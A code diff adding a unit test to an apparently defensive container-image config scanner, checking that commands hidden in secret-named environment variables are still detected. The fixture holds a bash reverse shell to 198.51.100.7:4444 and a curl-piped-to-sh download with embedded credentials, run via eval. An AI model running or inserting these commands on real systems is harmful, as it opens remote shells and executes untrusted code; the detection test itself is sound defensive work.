@@ -98,6 +98,15 @@ TEST(ConfigFacts, APayloadBehindASecretNameIsStillDecoded) {
   says_the_same(image, {"D07"}, {});
 }
 
+TEST(ConfigFacts, ACommandInAVariableOfASecretNameIsStillFollowed) {
+  const std::string login = sample("{w18}", 6);
+  ImageBuilder image;
+  image.config().env.push_back("API_TOKEN=bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
+  image.config().env.push_back("PASSWORD=curl -u me:" + login + " http://198.51.100.7/x | sh");
+  image.config().cmd = {"sh", "-c", "eval \"$PASSWORD\""};
+  says_the_same(image, {"B01", "D01"}, {login});
+}
+
 TEST(ConfigFacts, ASecretInBase64IsSaidAndNotKept) {
   const std::string token = sample("ghp_{@crc62}", 4);
   std::string text;
